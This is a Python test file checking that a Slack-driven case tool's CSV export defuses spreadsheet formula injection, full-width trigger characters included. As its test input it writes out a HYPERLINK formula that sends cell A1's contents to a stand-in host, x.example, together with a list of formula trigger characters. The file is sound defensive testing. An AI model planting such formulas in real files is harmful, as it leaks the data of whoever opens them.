"""The CSV export never hands a spreadsheet a formula typed by someone."""

from __future__ import annotations

import csv
import io

import pytest

from tests.helpers import THURSDAY, lead

# Cells a spreadsheet may run: = + - @ as typed and their full-width forms (which East
# Asian input methods type, and Excel reads as the half-width ones), after spaces too.
TRIGGERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", " =", "\u3000＝"]


@pytest.fixture
def clock(clock):
    clock.set(THURSDAY)
    return clock


async def exported(mend, slack, slack_user) -> list[dict[str, str]]:
    await slack_user.command("export 30d", user_id="ULEAD")
    await mend.settle()
    [stored] = [f for f in slack.files.values() if f["completed"]]
    return list(csv.DictReader(io.StringIO(stored["bytes"].decode("utf-8-sig"))))


async def test_cells_that_would_run_as_formulas_are_defused(mend, slack, slack_user, clock):
    (await lead(mend))
    formula = 'HYPERLINK("https://x.example/?leak="&A1,"refund")'
    for trigger in TRIGGERS:
        await slack_user.command(f"customer Acme: {trigger}{formula} waited on hold",
                                 user_id="U1")
    await slack_user.command("customer Acme: waited on hold - twice", user_id="U1")
    rows = [r for r in await exported(mend, slack, slack_user) if r["event"] == "opened"]
    assert len(rows) == len(TRIGGERS) + 1
    for row in rows[:-1]:
        stored = (await mend.store.case_by_number("T1", int(row["case"]))).summary
        assert formula in stored and row["summary"] == "'" + stored, row["summary"]
    assert rows[-1]["summary"] == "waited on hold - twice"  # nothing to defuse: as typed
